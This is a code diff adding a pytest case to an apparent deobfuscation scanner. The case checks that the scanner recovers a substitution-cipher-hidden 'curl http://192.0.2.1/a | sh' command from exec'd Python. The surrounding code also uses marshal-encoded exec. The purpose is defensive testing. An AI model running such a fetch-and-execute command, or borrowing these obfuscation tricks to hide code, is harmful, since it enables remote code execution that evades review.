@@ -54,3 +54,19 @@ def test_a_text_that_computes_itself_ends() -> None:
 def test_source_in_the_format_of_marshal_is_read(text: str | bytes) -> None:
     """`marshal.loads` of a text gives that text, not a code object."""
     assert _commands(f"import marshal\nexec(marshal.loads({marshal.dumps(text)!r}))\n")
+
+
+@pytest.mark.parametrize(
+    "loop",
+    [
+        "''.join([y[0] for x in d for y in [[k, v] for k, v in t.items()] if x == y[1]])",
+        "''.join(k for x in [c for c in d] for k, v in t.items() if v == x)",
+    ],
+    ids=["pairs", "unpacked"],
+)
+def test_a_table_of_substitutions_is_looked_up(loop: str) -> None:
+    """A text of any length whose every letter stands for another one is read."""
+    text = _COMMAND + "#" * 30_000
+    table = {letter: chr(0x100 + ord(letter)) for letter in set(text)}
+    hidden = "".join(table[letter] for letter in text)
+    assert "curl http://192.0.2.1/a | sh" in _commands(f"t = {table!r}\nd = {hidden!r}\nexec({loop})\n")
